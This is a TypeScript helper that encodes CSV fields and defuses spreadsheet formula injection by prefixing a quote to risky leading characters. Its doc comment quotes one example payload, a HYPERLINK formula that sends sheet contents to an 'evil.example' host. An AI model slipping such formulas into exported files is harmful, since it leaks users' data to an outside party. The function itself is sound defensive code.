/**
 * One CSV field, quoted when needed (RFC 4180), with spreadsheet formulas defused: a value that
 * starts with `=`, `+`, `-`, `@`, a tab or a carriage return would be run as a formula by Excel,
 * LibreOffice or Google Sheets (`=HYPERLINK("http://evil.example/?"&A1)` exfiltrates the sheet),
 * so it gets a leading `'`, which spreadsheets show as text (OWASP "CSV injection").
 */
export function csvCell(value: string | number | boolean | null | undefined): string {
  if (value === null || value === undefined) return "";
  if (typeof value !== "string") return String(value);
  const text = /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
  return /[",\r\n]/.test(text) || text !== text.trim() ? `"${text.replace(/"/g, '""')}"` : text;
}
